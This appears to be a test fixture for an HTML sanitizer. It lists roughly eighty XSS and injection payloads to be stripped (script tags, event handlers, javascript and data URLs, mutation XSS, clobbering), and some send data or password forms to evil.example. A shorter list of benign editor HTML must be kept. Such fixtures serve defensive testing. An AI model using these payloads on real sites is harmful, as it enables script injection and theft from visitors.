/** HTML that must never reach a visitor, by the kind of attack. */
export const attacks: Record<string, string> = {
  'a script': '<script>alert(1)</script>',
  'a script in odd case': '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  'a script that closes itself inside': '<scr<script>ipt>alert(1)</scr</script>ipt>',
  'a script with a slash': '<script/x>alert(1)</script>',
  'an unclosed script': '<script>alert(1)',
  'an event handler': '<img src=x onerror=alert(1)>',
  'an event handler after a slash': '<img/src=x/onerror=alert(1)>',
  'an event handler on an unknown element': '<xss onpointerrawupdate=alert(1) tabindex=1>x</xss>',
  'an event handler by animation':
    '<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart="alert(1)">x</p>',
  'an event handler on a video': '<video src=x onloadstart=alert(1) autoplay><source onerror=alert(1)></video>',
  'an event handler in a tag that is not closed': '<img src=x onerror=alert(1)//',
  'details that open': '<details open ontoggle=alert(1)>x</details>',
  'a javascript link': '<a href="javascript:alert(1)">x</a>',
  'a javascript link in odd case': '<a href="JaVaScRiPt:alert(1)">x</a>',
  'a javascript link with a tab': '<a href="java\tscript:alert(1)">x</a>',
  'a javascript link with a line break': '<a href="java\nscript:alert(1)">x</a>',
  'a javascript link with entities': '<a href="&#106;&#97;vascript&colon;alert(1)">x</a>',
  'a javascript link with long entities': '<a href="&#0000106&#0000097&#0000118ascript:alert(1)">x</a>',
  'a javascript link with a control character': '<a href="&#1;javascript:alert(1)">x</a>',
  'a javascript link after spaces': '<a href=" \u00a0 javascript:alert(1)">x</a>',
  'a javascript link with a soft hyphen': '<a href="java&shy;script:alert(1)">x</a>',
  'a vbscript link': '<a href="vbscript:msgbox(1)">x</a>',
  'a data link': '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  'a data picture': '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  'a blob link': '<a href="blob:https://site.example/1">x</a>',
  'a file link': '<a href="file:///etc/passwd">x</a>',
  'a view-source link': '<a href="view-source:javascript:alert(1)">x</a>',
  'a link to another host without a scheme': '<img src="//evil.example/x.png">',
  'a poster that is a script': '<video poster="javascript:alert(1)" src="/uploads/a.mp4"></video>',
  'a srcset': '<img src="/uploads/a.png" srcset="javascript:alert(1) 1x, //evil.example/x 2x">',
  'a style element': '<style>body{background:url(javascript:alert(1))}</style>',
  'a style element in a table': '<table><style><!--</style><img src=x onerror=alert(1)>--></style></table>',
  'a style that loads': '<p style="background:url(https://evil.example/?leak)">x</p>',
  'a style with an expression': '<p style="width:expression(alert(1))">x</p>',
  'a style that covers the page': '<p style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9999">x</p>',
  'a style with escapes': '<p style="b\\61ckground:u\\72l(https://evil.example)">x</p>',
  'a frame of an unknown host': '<iframe src="https://evil.example/"></iframe>',
  'a frame with its own document': '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  'a frame of a script': '<iframe src="javascript:alert(1)"></iframe>',
  'a frame of a host that looks like the player':
    '<iframe src="https://www.youtube-nocookie.com.evil.example/embed/dQw4w9WgXcQ"></iframe>',
  'a frame with the player as user name':
    '<iframe src="https://www.youtube-nocookie.com@evil.example/embed/dQw4w9WgXcQ"></iframe>',
  'a frame that leaves the player':
    '<iframe src="https://www.youtube-nocookie.com/embed/../redirect?q=https://evil.example"></iframe>',
  'a frame of the player with a backslash': '<iframe src="https:\\\\www.youtube.com/embed/dQw4w9WgXcQ"></iframe>',
  'a frame that swallows what follows': '<iframe><img title="</iframe><img src=x onerror=alert(1)>">',
  'an object': '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
  'a form':
    '<form action="https://evil.example"><input name=p type=password><button formaction="javascript:alert(1)">x</button></form>',
  'a base': '<base href="https://evil.example/">',
  'a refresh': '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  'a style sheet': '<link rel="stylesheet" href="https://evil.example/x.css">',
  'an import': '<link rel="import" href="data:text/html,<script>alert(1)</script>">',
  'svg with a script': '<svg><script>alert(1)</script></svg>',
  'svg with a handler': '<svg/onload=alert(1)>',
  'svg with an animated link':
    '<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>',
  'svg with use': '<svg><use href="data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x"/></svg>',
  'svg in foreign content':
    '<svg><foreignObject><iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe></foreignObject></svg>',
  'math with a link': '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  'math that mutates':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  'svg that mutates': '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  'noscript that mutates': '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  'a title that mutates': '<title><a href="</title><img src=x onerror=alert(1)>">',
  'a template': '<template><script>alert(1)</script><img src=x onerror=alert(1)></template>',
  'a text area that mutates': '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  'a select that mutates': '<select><option><style></option></select><img src=x onerror=alert(1)></style>',
  'xmp and plaintext':
    '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp><plaintext><img src=x onerror=alert(1)>',
  'a comment that closes early': '<!--><img src=x onerror=alert(1)>-->',
  'a comment with a bang': '<!--x--!><img src=x onerror=alert(1)>-->',
  'a conditional comment': '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  CDATA: '<![CDATA[<img src=x onerror=alert(1)>]]>',
  'a processing instruction': '<?xml version="1.0"?><?php echo 1 ?><img src=x onerror=alert(1)>',
  'an attribute that breaks out': '<a title="&quot;><img src=x onerror=alert(1)>" href="/x">x</a>',
  'an attribute in backticks': '<img src=`x` onerror=`alert(1)`>',
  clobbering: '<a id=defaultView name=body href="/x">x</a><img name=getElementById id=cookie>',
  'a custom element': '<x-admin is="script">x</x-admin><p is="x-admin">y</p><slot name=x></slot>',
  'a portal, a dialog and a marquee':
    '<portal src="https://evil.example"></portal><dialog open>x</dialog><marquee onstart=alert(1)>x</marquee>',
  'deep nesting': `${'<div>'.repeat(1000)}<img src=x onerror=alert(1)>${'</div>'.repeat(1000)}`,
  'very many attributes': `<p ${Array.from({ length: 3000 }, (_, at) => `data-${at}=1 onclick=alert(1)`).join(' ')}>x</p>`,
  'a very long attribute': `<a href="javascript:${'a'.repeat(90_000)}">x</a>`,
  'very many open brackets': '<'.repeat(90_000),
  'very many styles': `<p style="${'color:red;'.repeat(9000)}">x</p>`,
};

/** HTML that editors create and that must be stored unchanged. */
export const kept: Record<string, string> = {
  'a table':
    '<table style="width:100%"><caption>Ratings</caption><colgroup><col span="2" /></colgroup><thead><tr><th scope="col">V</th></tr></thead>' +
    '<tbody><tr><td colspan="2" style="text-align:right">24</td></tr></tbody></table>',
  code: '<pre class="language-ts"><code class="language-ts">if (a &lt; b &amp;&amp; c) {}</code></pre>',
  'a stored picture':
    '<p><img src="/uploads/q3-120x80.png" alt="A &quot;wheel&quot;" width="120" height="80" loading="lazy" /></p>',
  'a picture from elsewhere':
    '<figure><img src="https://pictures.example/a.webp" /><figcaption>A</figcaption></figure>',
  'a stored film':
    '<video controls width="640" height="360" poster="/uploads/p.png"><source src="/uploads/f.mp4" type="video/mp4" /></video>',
  links:
    '<a href="/about">us</a> <a href="https://x.example/?a=1&amp;b=2#c" rel="noopener" target="_blank">x</a> <a href="mailto:a@b.example">m</a> <a href="tel:+97140000000">t</a> <a href="#part">p</a>',
  'the relations of links':
    '<a href="https://x.example/" rel="nofollow sponsored ugc noopener" target="_blank">x</a> <a href="https://x.example/" rel="nofollow">y</a>',
  'a video embed':
    '<iframe src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ?start=30" title="A film" width="560" height="315" allowfullscreen></iframe>',
  'lists and headings':
    '<h2>A</h2><ul><li>1<ol start="3" type="a"><li>2</li></ol></li></ul><dl><dt>x</dt><dd>y</dd></dl><blockquote>q</blockquote><hr />',
  'text in every script': '<p dir="rtl" lang="ar">إضاءة</p><p>照明 😀 e\u0301 – “x” &lt;b&gt; &amp;amp;</p>',
};
